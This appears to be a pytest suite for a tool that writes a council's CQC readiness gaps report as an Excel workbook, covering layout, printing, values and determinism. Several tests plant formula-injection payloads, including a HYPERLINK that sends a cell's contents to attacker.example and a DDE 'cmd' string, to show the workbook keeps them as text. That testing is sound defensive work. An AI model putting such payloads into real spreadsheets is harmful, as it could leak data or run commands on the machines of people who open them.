"""ascready gaps --format xlsx: the workbook's sheets, values, dressing, safety and determinism."""

from __future__ import annotations

import datetime as dt
import io
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from ascready.analysis.gaps import GapsReport, build_gaps, run_gaps
from ascready.checks.load import load_project
from ascready.cli import app
from ascready.output.gaps_xlsx import AMBER, GREEN, GREY, RED, render_xlsx
from ascready.output.words import STATUS_WORDS
from ascready.output.xlsx import PORTRAIT_WIDTH
from tests.conftest import REPO_ROOT
from tests.output.printing import (
    assert_a4,
    assert_nothing_is_cut,
    assert_prints_on_a4,
    page_text,
    pdf_pages,
    to_pdf,
)

MakeRepo = Callable[..., Path]
DAY = dt.date(2026, 11, 23)
EXAMPLE = REPO_ROOT / "evidence"
SHEET_ORDER = [
    "Summary",
    "Coverage",
    "Evidence to refresh",
    "Information return",
    "Self-assessment",
    "Scores to check",
    "Actions",
    "Measures",
    "Expected evidence",
    "Deadlines",
    "Predicted rating",
]
DATE_HEADERS = {"As of", "Review by", "Due", "Date"}


def _report(root: Path, as_of: dt.date = DAY) -> GapsReport:
    project, findings = load_project(root)
    return build_gaps(project, as_of, validation_errors=len(findings))


@pytest.fixture(scope="module")
def report() -> GapsReport:
    return _report(EXAMPLE)


@pytest.fixture(scope="module")
def data(report: GapsReport) -> bytes:
    return render_xlsx(report)


@pytest.fixture(scope="module")
def book(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def _headers(ws: Any) -> list[str]:
    return [c.value for c in ws[1]]


def _records(ws: Any) -> list[dict[str, Any]]:
    """Data rows as {header: cell}, so tests name columns rather than count them."""
    heads = _headers(ws)
    return [dict(zip(heads, row, strict=True)) for row in ws.iter_rows(min_row=2)]


def _fill(cell: Any) -> str | None:
    if cell.fill is None or cell.fill.fill_type != "solid":
        return None
    rgb = cell.fill.start_color.rgb
    return str(rgb)[-6:].upper() if isinstance(rgb, str) else None


def _summary(book: Workbook) -> dict[str, Any]:
    return {r["Item"].value: r["Value"] for r in _records(book["Summary"])}


# --- the shape of the workbook ----------------------------------------------------------------


def test_sheets_in_order(book: Workbook) -> None:
    assert book.sheetnames == SHEET_ORDER
    assert book.active.title == "Summary"


@pytest.mark.parametrize("name", SHEET_ORDER)
def test_every_sheet_has_a_bold_frozen_filtered_header(book: Workbook, name: str) -> None:
    ws = book[name]
    header = list(ws[1])
    assert header and all(c.value and c.font.bold for c in header)
    assert ws.freeze_panes == "A2"
    last = header[-1].column_letter
    assert ws.auto_filter.ref == f"A1:{last}{ws.max_row}"
    for cell in header:
        width = ws.column_dimensions[cell.column_letter].width
        assert 8 <= width <= 60, (name, cell.value, width)


@pytest.mark.parametrize("name", SHEET_ORDER)
def test_dates_are_excel_dates_and_no_cell_is_a_formula(book: Workbook, name: str) -> None:
    ws = book[name]
    for record in _records(ws):
        for head, cell in record.items():
            assert cell.data_type != "f", (name, cell.coordinate, cell.value)
            if head in DATE_HEADERS and cell.value is not None:
                assert isinstance(cell.value, dt.datetime), (name, cell.coordinate, cell.value)
                assert cell.number_format == "yyyy-mm-dd"


# --- on paper -----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", SHEET_ORDER)
def test_every_sheet_prints_on_a4_one_page_wide_with_its_header(book: Workbook, name: str) -> None:
    assert_prints_on_a4(book[name], portrait_width=PORTRAIT_WIDTH)
    assert book[name].oddHeader.left.text == "Gaps report: Avonmere Council, as of 2026-11-23"


@pytest.mark.parametrize("name", SHEET_ORDER)
def test_no_text_is_cut_on_screen_or_on_paper(book: Workbook, name: str) -> None:
    assert_nothing_is_cut(book[name])


def test_wide_sheets_print_landscape_narrow_ones_portrait(book: Workbook) -> None:
    assert book["Measures"].page_setup.orientation == "landscape"  # 17 columns
    assert book["Deadlines"].page_setup.orientation == "portrait"  # 6 short ones


def test_columns_are_as_wide_as_their_values_up_to_a_cap(book: Workbook) -> None:
    """A column of short values shows them on one line: owners' names, numbers, dates."""
    for name in ("Information return", "Evidence to refresh", "Deadlines"):
        ws = book[name]
        for record in _records(ws):
            for head in ("Owner", "Date", "Days left", "Number", "Review by"):
                cell = record.get(head)
                if cell is None or cell.value is None:
                    continue
                width = ws.column_dimensions[cell.column_letter].width
                shown = 10 if isinstance(cell.value, dt.datetime) else len(str(cell.value))
                assert width >= shown + 1, (name, cell.coordinate, cell.value, width)


def test_statuses_read_as_words(book: Workbook) -> None:
    words = set(STATUS_WORDS.values())
    for name in ("Information return", "Actions"):
        statuses = [r["Status"].value for r in _records(book[name]) if r["Status"].value]
        assert statuses, name
        assert set(statuses) <= words, name


def test_a_council_name_with_an_ampersand_prints_as_itself(make_repo: MakeRepo) -> None:
    root = make_repo()
    profile = root / "ascready.yaml"
    text = profile.read_text(encoding="utf-8")
    council = next(line for line in text.splitlines() if line.startswith("council:"))
    profile.write_text(text.replace(council, "council: Brighton & Hove"), encoding="utf-8")
    book = load_workbook(io.BytesIO(render_xlsx(_report(root))))
    # '&' starts a header code ('&P' is the page number); '&&' prints one '&'.
    assert book["Summary"].oddHeader.left.text.startswith("Gaps report: Brighton && Hove,")


def test_libreoffice_prints_the_report_on_a_few_a4_pages(tmp_path: Path, data: bytes) -> None:
    """A spreadsheet program prints it: about a page a sheet (it was 49 pages, the Summary one
    column a page), A4, every page numbered, nothing cut (owners' names read whole)."""
    workbook = tmp_path / "gaps.xlsx"
    workbook.write_bytes(data)
    pages = pdf_pages(to_pdf(workbook, tmp_path))
    assert len(pages) <= len(SHEET_ORDER) + 4
    assert_a4(pages)
    text = page_text(pages)
    assert f"of {len(pages)}" in text
    book = load_workbook(workbook)
    owners = {r["Owner"].value for r in _records(book["Information return"]) if r["Owner"].value}
    assert owners
    for owner in owners:
        assert owner in text, owner
    assert "Not started" in text and "not-started" not in text


# --- the values, from the bundled repository's planted gaps -----------------------------------


def test_summary_after_the_return_was_due_says_what_is_overdue() -> None:
    """On 2026-12-03 the return (due 2026-11-30) has 12 items not ready or uploaded."""
    from ascready.analysis.gaps import run_gaps

    late = run_gaps(EXAMPLE, as_of="2026-12-03", today=dt.date(2026, 11, 23))
    book = load_workbook(io.BytesIO(render_xlsx(late)))
    notes = {r["Item"].value: r["Note"].value for r in _records(book["Summary"])}
    assert _summary(book)["Overdue: Information return due"].value == dt.datetime(2026, 11, 30)
    assert notes["Overdue: Information return due"] == (
        "passed 3 day(s) ago; 12 information-return item(s) still not ready or uploaded"
    )
    assert _summary(book)["Next deadline"].value == "Site visit"


def test_summary(book: Workbook, report: GapsReport) -> None:
    summary = _summary(book)
    assert summary["Council"].value == report.council == "Avonmere Council"
    assert summary["As of"].value == dt.datetime(2026, 11, 23)
    assert summary["As of"].number_format == "yyyy-mm-dd"
    assert summary["Framework"].value == report.framework
    overall = summary["Readiness, overall (%)"]
    assert overall.value == report.readiness.overall and isinstance(overall.value, float)
    for theme, score in report.readiness.themes.items():
        label = f"Readiness, {theme} {report.theme_titles[theme]} (%)"
        assert summary[label].value == score
    assert {"T1", "T2", "T3", "T4"} <= set(report.readiness.themes)
    components = {k: v for k, v in summary.items() if k.startswith("Readiness component")}
    assert sorted(c.value for c in components.values()) == sorted(
        report.readiness.components.values()
    )
    assert len(components) == 4
    assert summary["Information return"].value == report.information_return.headline
    nxt = next(d for d in report.deadlines.dates if d.name == report.deadlines.next)
    assert summary["Next deadline"].value == nxt.name
    assert summary["Next deadline: date"].value == dt.datetime.combine(nxt.date, dt.time())
    assert summary["Next deadline: days left"].value == nxt.days_left == 7
    assert summary["Validation errors"].value == 0
    assert summary["Validation warnings"].value == 0

    notes = {r["Item"].value: r["Note"].value for r in _records(book["Summary"])}
    for p in report.predicted:
        label = f"Predicted rating: {p.method_title}"
        assert "Council's own estimate, not CQC's" in notes[label]
        if p.available:
            assert summary[label].value == f"{p.rating_title} ({p.percent}%)"
        else:
            assert summary[label].value == "not available"


def test_information_return(book: Workbook, report: GapsReport) -> None:
    records = _records(book["Information return"])
    assert [r["Number"].value for r in records] == list(range(1, 39))
    assert [r["Number"].value for r in records] == [
        r.number for r in report.information_return.rows
    ]
    by_number = {r["Number"].value: r for r in records}
    item17 = by_number[17]
    assert item17["Owner"].value is None
    assert "no owner" in item17["Blockers"].value.split("; ")
    assert item17["Status"].value == "Not started"  # a word, not the code in the file
    colour = {
        "uploaded": GREEN,
        "ready": GREEN,
        "in-progress": AMBER,
        "not-started": RED,
        "missing": RED,
        "not-applicable": GREY,
    }
    for row in report.information_return.rows:
        record = by_number[row.number]
        assert record["Status"].value == STATUS_WORDS.get(row.status, row.status.capitalize())
        assert _fill(record["Status"]) == colour[row.status], row.number
        assert record["Evidence"].value == row.evidence
        assert record["Current evidence"].value == row.current_evidence
        assert isinstance(record["Evidence"].value, int)
        assert (record["Blockers"].value or "") == "; ".join(row.blockers)
    statuses = {r.status for r in report.information_return.rows}
    assert {"uploaded", "in-progress", "not-started", "not-applicable"} <= statuses


def test_coverage_counts_and_highlights(book: Workbook, report: GapsReport) -> None:
    cov = report.coverage
    ws = book["Coverage"]
    titles = [cov.category_titles[c] for c in cov.categories]
    assert _headers(ws)[:3] == ["Quality statement", "Title", "Theme"]
    assert _headers(ws)[3 : 3 + len(titles)] == titles
    records = {r["Quality statement"].value: r for r in _records(ws)}
    assert list(records) == [r.quality_statement for r in cov.rows]
    for row in cov.rows:
        record = records[row.quality_statement]
        assert record["Minimum per cell"].value == cov.minimum == 2
        for cat in cov.categories:
            cell = record[cov.category_titles[cat]]
            count = row.counts[cat]
            assert cell.value == count
            want = RED if count == 0 else AMBER if count < cov.minimum else GREEN
            assert _fill(cell) == want, (row.quality_statement, cat)

    # The planted gap: QS3 has no current evidence of people's experience.
    people = records["QS3"][cov.category_titles["peoples-experience"]]
    assert people.value == 0
    assert _fill(people) == RED
    assert cov.category_titles["peoples-experience"] in records["QS3"]["Below the minimum"].value


def test_evidence_to_refresh(book: Workbook, report: GapsReport) -> None:
    cov = report.coverage
    records = _records(book["Evidence to refresh"])
    assert len(records) == len(cov.not_current) + len(cov.due_soon) + len(cov.unowned)
    rows = {(r["List"].value, r["Evidence"].value): r for r in records}
    stale = rows[("not current", "EV-014")]  # planted: as of 2023
    assert stale["As of"].value == dt.datetime(2023, 10, 1)
    assert stale["Current"].value == "no"
    assert "older than 12 months" in stale["Reasons"].value
    assert stale["File"].value == "evidence/EV-014.yaml"
    assert {e for (kind, e) in rows if kind == "no owner"} == {s.id for s in cov.unowned}
    assert {e for (kind, e) in rows if kind == "not current"} == {s.id for s in cov.not_current}


def test_self_assessment(book: Workbook, report: GapsReport) -> None:
    records = {r["Quality statement"].value: r for r in _records(book["Self-assessment"])}
    assert list(records) == [r.quality_statement for r in report.self_assessment.ratings]
    for r in report.self_assessment.ratings:
        record = records[r.quality_statement]
        assert record["Self-score"].value == r.self_score
        assert record["Narrative"].value == ("yes" if r.has_narrative else "no")
        assert record["Strengths"].value == r.strengths
        assert record["Areas for improvement"].value == r.areas_for_improvement
        assert (record["Missing"].value or "") == "; ".join(r.missing)
    assert records["QS1"]["Areas without an action"].value == "AFI-QS1-03"


def test_scores_to_check_and_expected_evidence_name_qs3(book: Workbook, report: GapsReport) -> None:
    scores = _records(book["Scores to check"])
    assert len(scores) == sum(len(u.reasons) for u in report.self_assessment.unsupported_scores)
    qs3 = [r for r in scores if r["Quality statement"].value == "QS3"]
    assert qs3 and all(r["Self-score"].value == 3 for r in qs3)
    assert any("people's experience" in r["Reason"].value for r in qs3)

    expected = _records(book["Expected evidence"])
    assert len(expected) == len(report.expected_evidence)
    assert "QS3" in {r["Quality statement"].value for r in expected}
    assert [(r["Quality statement"].value, r["Expected evidence"].value) for r in expected] == [
        (g.quality_statement, g.id) for g in report.expected_evidence
    ]


def test_actions(book: Workbook, report: GapsReport) -> None:
    records = {r["Id"].value: r for r in _records(book["Actions"])}
    sa = report.self_assessment
    assert len(records) == len(sa.action_issues) + len(sa.areas_without_action)
    overdue = records["ACT-02"]  # planted: overdue
    assert overdue["Due"].value == dt.datetime(2026, 10, 31)
    assert overdue["Problems"].value.startswith("overdue since")
    afi = records["AFI-QS1-03"]  # planted: an area for improvement no action answers
    assert afi["Kind"].value == "area for improvement without an action"
    assert afi["Quality statement"].value == "QS1"
    assert afi["File"].value == "ratings/QS1.yaml"


def test_deadlines(book: Workbook, report: GapsReport) -> None:
    records = _records(book["Deadlines"])
    assert [r["Deadline"].value for r in records] == [d.name for d in report.deadlines.dates]
    for record, d in zip(records, report.deadlines.dates, strict=True):
        assert record["Date"].value == dt.datetime.combine(d.date, dt.time())
        assert record["Days left"].value == d.days_left
        assert record["Next"].value == ("yes" if d.name == report.deadlines.next else "no")
        blocking = record["Blocking items"].value
        numbers = [int(n) for n in blocking.split(", ")] if blocking else []
        assert numbers == list(d.blocking)
    due = next(r for r in records if r["Deadline"].value == "Information return due")
    assert "17" in due["Blocking items"].value.split(", ")


def test_predicted_rating(book: Workbook, report: GapsReport) -> None:
    records = _records(book["Predicted rating"])
    assert [r["Method"].value for r in records] == [p.method for p in report.predicted]
    for record, p in zip(records, report.predicted, strict=True):
        assert record["Method title"].value == p.method_title
        assert record["Percent"].value == p.percent
        assert record["Basis"].value == "Council's own estimate, not CQC's"
        assert record["Position"].value == p.position
        for qs in report.qs_titles:
            assert record[qs].value == p.scores.get(qs)
    first = report.predicted[0]
    assert first.available and records[0]["Rating"].value == first.rating_title


# --- deterministic output ---------------------------------------------------------------------


def test_the_same_report_gives_the_same_bytes(report: GapsReport, data: bytes) -> None:
    assert render_xlsx(report) == data
    assert render_xlsx(_report(EXAMPLE)) == data


def test_times_come_from_the_as_of_date_not_the_clock(data: bytes, book: Workbook) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert {i.date_time for i in z.infolist()} == {(2026, 11, 23, 0, 0, 0)}
        assert {i.compress_type for i in z.infolist()} == {zipfile.ZIP_DEFLATED}
        core = z.read("docProps/core.xml").decode()
    stamps = re.findall(r"<dcterms:(created|modified)[^>]*>([^<]*)<", core)
    assert sorted(stamps) == [
        ("created", "2026-11-23T00:00:00Z"),
        ("modified", "2026-11-23T00:00:00Z"),
    ]
    assert book.properties.modified == dt.datetime(2026, 11, 23)

    later = render_xlsx(_report(EXAMPLE, dt.date(2027, 1, 5)))
    with zipfile.ZipFile(io.BytesIO(later)) as z:
        assert {i.date_time for i in z.infolist()} == {(2027, 1, 5, 0, 0, 0)}
        assert "2027-01-05T00:00:00Z" in z.read("docProps/core.xml").decode()


# --- text from the evidence stays text ----------------------------------------------------------


def test_formula_like_text_is_written_as_text(make_repo: MakeRepo) -> None:
    hyperlink = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the report")'
    root = make_repo(
        {
            "evidence/EV-002.yaml": f"""
                id: EV-002
                title: '{hyperlink}'
                kind: survey
                categories: [peoples-experience]
                quality_statements: [QS1]
                source: https://www.testshire.example/carers-survey
                as_of: 2026-06-30
                review_by: 2099-06-30
                classification: public
            """,
            "information-return/IR-02.yaml": """
                number: 2
                title: "+1+cmd|' /C calc'!A0"
                quality_statements: [QS1]
                status: in-progress
                owner: "@SUM(1+1)"
                evidence: [EV-002]
            """,
            "actions/ACT-01.yaml": """
                id: ACT-01
                title: "-2+3"
                workstream: Practice and operations
                owner: Head of Operations
                due: 2026-01-31
                status: in-progress
                answers: [AFI-QS1-01]
            """,
        }
    )
    project, findings = load_project(root)
    assert findings == []
    data = render_xlsx(build_gaps(project, DAY))

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert "<f>" not in z.read(name).decode(), name

    book = load_workbook(io.BytesIO(data))
    refresh = {r["Evidence"].value: r for r in _records(book["Evidence to refresh"])}
    title = refresh["EV-002"]["Title"]  # listed because it has no owner
    assert title.value == hyperlink
    assert title.data_type == "s"
    assert title.quotePrefix
    item = next(r for r in _records(book["Information return"]) if r["Number"].value == 2)
    assert item["Title"].value == "+1+cmd|' /C calc'!A0"
    assert item["Owner"].value == "@SUM(1+1)"
    assert item["Title"].quotePrefix and item["Owner"].quotePrefix
    action = next(r for r in _records(book["Actions"]) if r["Id"].value == "ACT-01")
    assert action["Title"].value == "-2+3"
    assert action["Title"].data_type == "s" and action["Title"].quotePrefix


def test_control_characters_do_not_break_the_workbook(make_repo: MakeRepo) -> None:
    root = make_repo(
        {
            "evidence/EV-002.yaml": """
                id: EV-002
                title: "Carers\\a survey\\x1b results"
                kind: survey
                categories: [peoples-experience]
                quality_statements: [QS1]
                source: https://www.testshire.example/carers-survey
                as_of: 2026-06-30
                review_by: 2099-06-30
                classification: public
            """,
        }
    )
    project, findings = load_project(root)
    # Found as the file is read, and replaced there, so no output ever holds them.
    assert [(f.check, f.file) for f in findings] == [("control-character", "evidence/EV-002.yaml")]
    title = next(d.model.title for d in project.of_kind("evidence") if d.model.id == "EV-002")
    assert "\a" not in title and "\x1b" not in title
    book = load_workbook(io.BytesIO(render_xlsx(build_gaps(project, DAY))))
    refresh = {r["Evidence"].value: r for r in _records(book["Evidence to refresh"])}
    assert (
        refresh["EV-002"]["Title"].value == "Carers\N{REPLACEMENT CHARACTER} survey\ufffd results"
    )


def test_a_repository_with_a_broken_profile_still_gives_a_workbook(make_repo: MakeRepo) -> None:
    root = make_repo({"ascready.yaml": "council: [\n"})
    report = _report(root)
    assert report.validation_errors >= 1 and not report.deadlines.dates
    book = load_workbook(io.BytesIO(render_xlsx(report)))
    assert book.sheetnames == SHEET_ORDER
    summary = _summary(book)
    assert summary["Next deadline"].value == "none upcoming"
    assert summary["Validation errors"].value == report.validation_errors
    deadlines = book["Deadlines"]
    assert deadlines.max_row == 1 and deadlines.auto_filter.ref == "A1:F1"


# --- the command line -------------------------------------------------------------------------


def test_importing_the_module_does_not_import_openpyxl() -> None:
    code = (
        "import sys, ascready.cli, ascready.output.gaps_xlsx; "
        "print('openpyxl' in sys.modules or any(m.startswith('openpyxl.') for m in sys.modules))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=REPO_ROOT
    )
    assert done.stdout.strip() == "False"


def test_the_gaps_command_writes_the_same_workbook(tmp_path: Path, runner: CliRunner) -> None:
    out = tmp_path / "gaps.xlsx"
    args = ["gaps", str(EXAMPLE), "--as-of", "2026-11-23", "--format", "xlsx", "--out", str(out)]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    assert out.read_bytes() == render_xlsx(run_gaps(EXAMPLE, as_of="2026-11-23"))
    assert load_workbook(out).sheetnames == SHEET_ORDER


def _all_cells(book: Workbook) -> list[Any]:
    return [cell for ws in book for row in ws.iter_rows() for cell in row]


def test_a_formula_in_a_custom_framework_stays_text(
    make_repo: MakeRepo, runner: CliRunner, tmp_path: Path
) -> None:
    """Framework titles reach the workbook too, in headers as well as cells."""
    hyperlink = '=HYPERLINK("http://evil.example/x","People")'
    builtin = REPO_ROOT / "src" / "ascready" / "repository" / "frameworks" / "cqc-la-2024.yaml"
    text = builtin.read_text(encoding="utf-8").replace("id: cqc-la-2024", "id: local", 1)
    category = "    title: People's experience\n    short_title: People\n"
    assert category in text
    text = text.replace(category, f"    title: '{hyperlink}'\n    short_title: '{hyperlink}'\n")
    root = make_repo({"frameworks/local.yaml": text})
    with (root / "ascready.yaml").open("a", encoding="utf-8") as profile:
        profile.write("framework: frameworks/local.yaml\n")
    out = tmp_path / "gaps.xlsx"
    args = ["gaps", str(root), "--as-of", "2026-11-23", "--format", "xlsx", "--out", str(out)]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output

    book = load_workbook(out)
    found = [cell for cell in _all_cells(book) if cell.value == hyperlink]
    assert any(cell.row == 1 for cell in found)  # the Coverage sheet's column for the category
    for cell in found:
        assert cell.data_type == "s", (cell.parent.title, cell.coordinate)
        assert cell.quotePrefix, (cell.parent.title, cell.coordinate)
    assert not [c.coordinate for c in _all_cells(book) if c.data_type == "f"]


def test_text_like_an_error_value_stays_text(make_repo: MakeRepo) -> None:
    root = make_repo(
        {
            "evidence/EV-002.yaml": """
                id: EV-002
                title: "#N/A"
                kind: survey
                categories: [peoples-experience]
                quality_statements: [QS1]
                as_of: 2026-06-30
                review_by: 2099-06-30
                classification: public
            """,
        }
    )
    project, _ = load_project(root)
    book = load_workbook(io.BytesIO(render_xlsx(build_gaps(project, DAY))))
    title = {r["Evidence"].value: r for r in _records(book["Evidence to refresh"])}["EV-002"]
    assert title["Title"].value == "#N/A"
    assert title["Title"].data_type == "s"


def test_characters_xml_cannot_hold_are_replaced_not_a_crash(make_repo: MakeRepo) -> None:
    """U+FFFE is valid YAML and passes validate, but no XML file can hold it."""
    root = make_repo(
        {
            "evidence/EV-002.yaml": """
                id: EV-002
                title: "Carers\\ufffe survey"
                kind: survey
                categories: [peoples-experience]
                quality_statements: [QS1]
                as_of: 2026-06-30
                review_by: 2099-06-30
                classification: public
            """,
        }
    )
    profile = root / "ascready.yaml"
    profile.write_text(
        profile.read_text(encoding="utf-8").replace(
            "council: Testshire Council", 'council: "Testshire\\uffff Council"'
        ),
        encoding="utf-8",
    )
    project, findings = load_project(root)
    assert findings == []
    book = load_workbook(io.BytesIO(render_xlsx(build_gaps(project, DAY))))
    refresh = {r["Evidence"].value: r for r in _records(book["Evidence to refresh"])}
    assert refresh["EV-002"]["Title"].value == "Carers\N{REPLACEMENT CHARACTER} survey"
    assert _summary(book)["Council"].value == "Testshire\N{REPLACEMENT CHARACTER} Council"


def test_text_too_long_for_a_cell_is_cut_and_says_so(make_repo: MakeRepo) -> None:
    title = "Carers survey " + "\N{GRINNING FACE}" * 20_000  # 40,014 in Excel's count
    root = make_repo(
        {
            "evidence/EV-002.yaml": f"""
                id: EV-002
                title: "{title}"
                kind: survey
                categories: [peoples-experience]
                quality_statements: [QS1]
                as_of: 2026-06-30
                review_by: 2099-06-30
                classification: public
            """,
        }
    )
    project, _ = load_project(root)
    book = load_workbook(io.BytesIO(render_xlsx(build_gaps(project, DAY))))
    shown = {r["Evidence"].value: r for r in _records(book["Evidence to refresh"])}["EV-002"]
    value = shown["Title"].value
    assert value.startswith("Carers survey \N{GRINNING FACE}")
    assert value.endswith("[... cut: too long for one cell]")
    assert 32_000 < len(value.encode("utf-16-le")) // 2 <= 32_767
